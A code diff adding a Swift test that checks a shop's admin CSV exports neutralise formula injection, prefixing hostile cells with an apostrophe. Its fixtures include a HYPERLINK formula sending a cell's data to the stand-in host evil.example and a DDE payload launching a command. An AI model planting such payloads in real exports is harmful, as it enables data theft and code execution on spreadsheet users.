@@ -62,6 +62,69 @@ import TestSupport
         #expect(Set(fields ?? []) == ["from", "to"])
     }
 
+    /// OWASP CSV Injection: a shipping address and provider references
+    /// written to be run as formulas come back, read by Python's csv module,
+    /// as text a spreadsheet shows: each such cell is `'` + the value
+    /// (and quoted), while an amount the server writes stays a bare number.
+    /// Each export is an attachment with a file name; `from` after `to` is 422.
+    @Test func formulaCellsAreNeutralisedAndExportsAreNamedDownloads() throws {
+        let shop = try Shop.open(stock: 100)
+        defer { shop.server.stop() }
+        let api = shop.api
+        let buyer = try shop.customer("hostile")
+        let before = Self.now()
+        let name = #"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#
+        let address: [String: Any] = [
+            "name": name, "lines": ["+cmd|' /C calc'!A0", "@SUM(1+1)"], "city": "-2+3",
+            "postal_code": "28013", "country": "ES", "phone": "+4930123456", "email": "=1+2@example.com",
+        ]
+        let body = String(decoding: try JSONSerialization.data(withJSONObject: ["shipping_address": address]), as: UTF8.self)
+        let order = try shop.checkout(buyer, body: body)
+        let orderID = try #require(order["id"] as? String)
+        #expect(try shop.deliver(try shop.sign(order, eventID: "@evt+1", reference: "+1-2")).status == 200)
+        let after = Self.now()
+
+        let export = try api.call("GET", "/admin/exports/orders?from=\(before)&to=\(after)", token: shop.admin)
+        #expect(export.status == 200)
+        let disposition = try #require(export.header("Content-Disposition"))
+        #expect(disposition.hasPrefix("attachment; filename=\"orders-") && disposition.hasSuffix(".csv\""))
+        #expect(!disposition.dropFirst("attachment; ".count).contains(":"))
+        let text = String(decoding: export.body, as: UTF8.self)
+        // The raw bytes: a neutralised cell is quoted, so no record field
+        // starts with a formula character even to a naive reader.
+        #expect(text.contains(#",0,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#))
+        let rows = try Self.parse(export.body)
+        let header = try #require(rows.first)
+        let record = try #require(rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }.first)
+        #expect(record["id"] == orderID)
+        #expect(record["ship_name"] == "'" + name)
+        #expect(record["ship_lines"] == "'+cmd|' /C calc'!A0\n@SUM(1+1)")
+        #expect(record["ship_city"] == "'-2+3")
+        #expect(record["ship_email"] == "'=1+2@example.com")
+        #expect(record["ship_phone"] == "'+4930123456")
+        #expect(record["total"] == "4000" && record["paid"] == "4000")
+        for row in rows {
+            for cell in row {
+                #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "cell \(cell) would run as a formula")
+            }
+        }
+
+        let ledger = try api.call("GET", "/admin/exports/ledger?from=\(before)&to=\(after)", token: shop.admin)
+        #expect(ledger.status == 200)
+        #expect(ledger.header("Content-Disposition")?.hasPrefix("attachment; filename=\"ledger-") == true)
+        let ledgerRows = try Self.parse(ledger.body)
+        #expect(ledgerRows.count == 2)
+        let entry = Dictionary(uniqueKeysWithValues: zip(ledgerRows[0], ledgerRows[1]))
+        #expect(entry["reference"] == "'+1-2" && entry["event_id"] == "'@evt+1" && entry["amount"] == "4000")
+
+        for export in ["orders", "ledger"] {
+            let backwards = try api.call("GET", "/admin/exports/\(export)?from=\(after)&to=\(before)", token: shop.admin)
+            #expect(backwards.status == 422)
+            let errors = api.object(backwards)["errors"] as? [[String: Any]]
+            #expect(errors?.first?["field"] as? String == "from" && errors?.first?["code"] as? String == "inconsistent")
+        }
+    }
+
     static func now() -> String {
         let formatter = ISO8601DateFormatter()
         formatter.formatOptions = [.withInternetDateTime, .withFractionalSeconds]
